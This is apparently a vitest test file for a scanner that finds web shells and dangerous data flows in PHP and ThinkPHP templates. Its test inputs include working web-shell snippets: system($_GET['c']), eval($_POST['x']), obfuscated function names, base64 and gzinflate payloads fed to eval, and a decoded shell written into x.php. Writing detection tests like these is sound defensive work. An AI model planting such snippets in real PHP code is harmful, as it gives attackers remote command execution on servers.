import { deflateSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { scanPhp } from './scan-php';

const rules = (src: string, mode: 'php' | 'template' = 'php') => scanPhp(src, mode).map((f) => f.rule);

describe('PHP scan by tokens', () => {
  it('reads strings, comments and heredocs as text, not code', () => {
    const src = `<?php
// system($_GET['c']);
/* eval($_POST['x']); */
# assert($_REQUEST['a']);
echo 'system($_GET[c])', "eval(\\$_POST[x])";
$doc = <<<'EOT'
eval($_POST['x']);
EOT;
?>
<p>eval($_POST['x']) is how shells start</p>`;
    expect(rules(src)).toEqual([]);
  });

  it('decodes escapes and interpolation as PHP does', () => {
    expect(rules(`<?php $f = "\\x73\\171st\\u{65}m"; $f($_GET['c']);`)).toEqual(['commandInput']);
    expect(rules(`<?php $c = "{$_POST['c']}"; eval("return $c;");`)).toEqual(['evalInput']);
    expect(rules(`<?php shell_exec("ls \${_GET['c']}");`)).toEqual(['commandInput']);
    expect(rules(`<?php $n = 'id'; shell_exec("ls \${n}");`)).toEqual([]);
  });

  it('keeps request data through branches, and drops it when straight-line code replaces it', () => {
    const branches = `<?php if (isset($_GET['c'])) { $c = $_GET['c']; } else { $c = 'id'; } system($c);`;
    expect(rules(branches)).toEqual(['commandInput']);
    const braceless = `<?php if (isset($_GET['c'])) $c = $_GET['c']; else $c = 'id'; system($c);`;
    expect(rules(braceless)).toEqual(['commandInput']);
    expect(rules(`<?php $c = $_GET['c']; $c = (int) $c; system('kill ' . $c);`)).toEqual([]);
  });

  it('follows request data into functions and methods declared anywhere in the file', () => {
    expect(
      rules(
        `<?php echo run($_GET['c']); function run($x) { return inner($x); } function inner($y) { return passthru($y); }`,
      ),
    ).toEqual(['commandInput']);
    expect(
      rules(`<?php function run($x) { return shell_exec('ls ' . escapeshellarg($x)); } run($_GET['c']);`),
    ).toEqual([]);
    expect(rules(`<?php function cmd() { return $_GET['c']; } system(cmd());`)).toEqual(['commandInput']);
  });

  it('tells the command from its arguments: shell-escaping a whole command does not make it safe', () => {
    expect(rules(`<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');`)).toEqual(
      [],
    );
    expect(rules(`<?php exec(escapeshellcmd($_GET['c']));`)).toEqual(['commandInput']);
  });

  it('separates $_SERVER keys a client sets from those the server sets', () => {
    expect(rules(`<?php include $_SERVER['DOCUMENT_ROOT'] . '/config.php';`)).toEqual([]);
    expect(rules(`<?php include $_SERVER['HTTP_X_PAGE'];`)).toEqual(['includeInput']);
  });

  it('reads PHP inside ThinkPHP templates', () => {
    expect(rules(`<div>{php}system($_GET['c']);{/php}</div>`, 'template')).toEqual(['commandInput']);
    expect(rules(`<div>{:shell_exec(input('c'))}</div>`, 'template')).toEqual(['commandInput']);
    expect(rules(`<div>{$vo.name} {:url('index/index')} <?php echo date('Y'); ?></div>`, 'template')).toEqual(
      [],
    );
  });

  it('scans code that eval runs from a constant, and holds eval of code it cannot see', () => {
    expect(rules(`<?php eval('$f = "sys" . "tem"; $f($_GET["c"]);');`)).toEqual(['commandInput']);
    expect(rules(`<?php eval($code);`)).toEqual(['evalDynamic']);
    expect(rules(`<?php eval('return 1 + 1;');`)).toEqual([]);
  });

  it('lets a template engine run the template it compiled, and still holds what reaches it', () => {
    expect(rules(`<?php eval('?>' . file_get_contents($this->filepath));`)).toEqual([]);
    expect(rules(`<?php eval('?>' . $_POST['tpl']);`)).toEqual(['evalInput']);
    expect(rules(`<?php eval('?>' . base64_decode($blob));`)).toEqual(['evalDecoded']);
    expect(rules(`<?php eval('?>' . file_get_contents('http://x.example/t'));`)).toEqual(['evalInput']);
  });

  it('reads a write to the output streams as printing, not as a file', () => {
    expect(
      rules(`<?php fwrite(STDOUT, $_GET['x']); fputs(STDERR, file_get_contents('php://input'));`),
    ).toEqual([]);
    // Unless the file gave the name a path of its own first.
    expect(
      rules(`<?php define('STDOUT', 'x.php'); $f = fopen(STDOUT, 'w'); fwrite($f, $_POST['x']);`),
    ).toEqual(['writeInput']);
  });

  it('reads a constant, however it is given and named, as its value where a function name is taken', () => {
    const ns = `<?php namespace App; const F = 'system';`;
    expect(rules(`${ns} $f = \\App\\F; $f($_GET['c']);`)).toEqual(['commandInput']);
    expect(rules(`<?php define('App\\F', 'system'); call_user_func(\\App\\F, $_GET['c']);`)).toEqual([
      'commandInput',
    ]);
    expect(rules(`${ns.replace('system', 'trim')} $f = \\App\\F; $f($_GET['c']);`)).toEqual([]);
    const cls = `<?php class A { const F = 'passthru'; function r() { return (self::F)($_GET['c']); } }`;
    expect(rules(cls)).toEqual(['commandInput']);
    expect(rules(cls.replace('passthru', 'trim'))).toEqual([]);
  });

  it('names the real source of request data, never the path it took', () => {
    const src = (code: string) => scanPhp(code, 'php').map((f) => f.src);
    expect(src(`<?php function arg() { return $_COOKIE['a']; } system(arg());`)).toEqual(['$_COOKIE']);
    expect(src(`<?php system(\${$_GET['v']});`)).toEqual(['$_GET']);
    // A variable named by the code's own data is not request data.
    expect(src(`<?php foreach ($conf as $k => $v) { system($$k); }`)).toEqual([]);
  });

  it('holds a decoded payload too large to unpack here, without unpacking it', () => {
    const blob = Buffer.from(deflateSync(new Uint8Array(20_000_000))).toString('base64');
    const started = process.memoryUsage().rss;
    expect(rules(`<?php eval(gzinflate(base64_decode('${blob}')));`)).toEqual(['evalDecoded']);
    expect(process.memoryUsage().rss - started).toBeLessThan(200_000_000);
  });

  it('holds a decoded payload written into a script, and reads what it holds', () => {
    const payload = Buffer.from("<?php system($_GET['c']);").toString('base64');
    expect(rules(`<?php file_put_contents(__DIR__ . '/x.php', base64_decode('${payload}'));`)).toEqual([
      'writeDecoded',
      'commandInput',
    ]);
    expect(rules(`<?php file_put_contents(__DIR__ . '/x.png', base64_decode('${payload}'));`)).toEqual([]);
    // Protocol bytes pack()ed into a socket the code opened (phpseclib's ssh-agent client).
    const agent = `<?php class Agent { function ids() { $packet = pack('NC', 1, 11); fputs($this->fsock, $packet); } }`;
    expect(rules(agent)).toEqual([]);
    // An image decoded from an API's answer, saved under a path a helper chose.
    const api = `<?php $json = json_decode(curl_exec($ch), true); $raw = base64_decode($json['data'][0]['b64']);`;
    expect(rules(`${api} file_put_contents(self::savePath($id, 'png'), $raw);`)).toEqual([]);
  });

  it('shares one budget between payloads: many small blobs that unpack to megabytes are not all unpacked', () => {
    const blob = (i: number) =>
      Buffer.from(deflateSync(new Uint8Array(400_000).fill(i % 250))).toString('base64');
    const src = `<?php\n${Array.from({ length: 120 }, (_, i) => `eval(gzinflate(base64_decode('${blob(i)}')));`).join('\n')}`;
    const found = scanPhp(src, 'php');
    expect(found.filter((f) => f.rule === 'evalDecoded')).toHaveLength(120);
  });

  it('holds code nested too deeply to read instead of failing or giving up silently', () => {
    const deep = `<?php $x = ${'('.repeat(5000)}$_GET['c']${')'.repeat(5000)}; system($x);`;
    expect(rules(deep)).toContain('tooComplex');
    expect(rules(`<?php ${'@'.repeat(50_000)}system($_GET['c']);`)).toContain('tooComplex');
    expect(rules(`<?php ${'{'.repeat(5000)}`)).toEqual(['tooComplex']);
  });

  it('answers for a hostile file of two megabytes', () => {
    const junk = `<?php ${'$a = \'x\' . $b[0]->c("$d{$e}") ?? <<<E\nz\nE;\n'.repeat(40_000)}`.slice(
      0,
      2_000_000,
    );
    expect(Array.isArray(scanPhp(junk, 'php'))).toBe(true);
  });
  it('follows callbacks that objects call: filter iterators, XML handlers, XPath given every function', () => {
    expect(rules(`<?php $i = new CallbackFilterIterator(new ArrayIterator([1]), $_GET['f']);`)).toEqual([
      'callInput',
    ]);
    expect(rules(`<?php $i = new \\CallbackFilterIterator($it, function ($v) { return $v > 1; });`)).toEqual(
      [],
    );
    expect(rules(`<?php xml_set_element_handler($p, 'open', $_GET['f']);`)).toEqual(['callInput']);
    const xpath = (register: string) =>
      rules(`<?php $x = new DOMXPath($d); $x->query($_GET['q']); $x->registerPhpFunctions(${register});`);
    expect(xpath('')).toEqual(['callInput']);
    expect(xpath(`['strtolower']`)).toEqual([]);
  });

  it('reads what can run: nothing after a first-statement exit but its argument and declarations', () => {
    expect(rules(`<?php die('disabled'); unlink($_GET['f']);`)).toEqual([]);
    expect(rules(`<?php die(x($_GET['c'])); function x($c) { system($c); }`)).toEqual(['commandInput']);
    expect(rules(`<?php exit; class A { function b() { eval($_POST['c']); } }`)).toEqual(['evalInput']);
    // Not the first statement: the exit may not be reached.
    expect(rules(`<?php if (!isset($_GET['k'])) die('no'); unlink($_GET['f']);`)).toEqual(['fileInput']);
  });

  it('checks a file of literal values instead of reading it, and still sees its encryptor names', () => {
    const budget = { tokens: 10, decoded: 1_000, data: 1_000 };
    expect(scanPhp(`<?php $cw = array(32 => 250, 33 => 278, 34 => 355, 35 => 556);`, 'php', budget)).toEqual(
      [],
    );
    expect(budget).toEqual({ tokens: 10, decoded: 1_000, data: 1_000 - 21 });
    const names = `<?php $O00O0O = 'a'; $O0O000 = 'b'; $OO00O0 = 'c'; $O000O0 = 'd';`;
    expect(rules(names)).toEqual(['obfuscatedVars']);
    // One call and it is code: read, within the reading budget.
    expect(scanPhp(`<?php $cw = array(32 => 250); $f = 'x'; $f(1);`, 'php', { ...budget })).toEqual([
      { rule: 'notScanned', line: 0 },
    ]);
  });
});
